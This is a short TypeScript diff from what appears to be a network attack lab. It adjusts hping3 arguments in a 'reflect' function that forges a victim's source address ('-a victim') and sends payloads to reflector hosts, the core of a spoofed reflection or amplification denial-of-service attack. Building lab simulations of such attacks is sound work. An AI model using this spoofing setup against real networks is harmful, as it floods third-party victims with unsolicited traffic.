@@ -35,7 +35,8 @@ export async function reflect(order: AttackOrder, reflection: Reflection): Promi
   for (const stop of stops) if (stop === undefined) lab.log(`a ${kind} reflector did not start`);
   const file = join(actor.folder, `${kind}-question`);
   writeFileSync(file, question);
-  const from = ['-2', '-a', victim, '-s', String(victimPort), '-k', '-p', String(servicePort)];
+  // hping3 would take the answers to the victim, which a hub shows it, for its own, and stop when it has enough.
+  const from = ['-2', '-I', 'lo', '-a', victim, '-s', String(victimPort), '-k', '-p', String(servicePort)];
   const words = [...from, '-d', String(question.length), '-E', file, ...hpingWords(plan, seconds)];
   const addresses = reflectors.flatMap(([, own]) => own);
   await Promise.all(addresses.map(address => runHping(actor, [...words, address], { seconds, signal })));
